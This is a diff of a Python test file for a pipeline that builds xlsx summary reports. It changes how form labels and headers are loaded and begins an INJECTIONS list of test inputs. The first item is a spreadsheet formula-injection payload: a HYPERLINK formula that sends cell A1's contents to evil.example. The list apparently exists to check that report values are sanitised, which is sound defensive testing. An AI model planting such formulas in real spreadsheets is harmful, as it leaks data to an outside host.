@@ -13,10 +13,16 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from pipeline.model import FORM_LABELS, Problem, Status
-from pipeline.reports.summary import ALL_HEADERS, UNIT_HEADERS, build_summary_xlsx
+from pipeline.campaign import builtin
+from pipeline.model import Problem, Status
+from pipeline.reports.summary import all_headers, build_summary_xlsx, unit_headers
 from pipeline.reports.views import AttachmentView, SubmissionView, UnitRow
 from pipeline.reports.xlsx_style import display_width, looks_like_formula, put, safe_value, status_fill
+
+FORM = builtin().form
+FORM_LABELS = FORM.labels
+UNIT_HEADERS = unit_headers(FORM)
+ALL_HEADERS = all_headers(FORM)
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
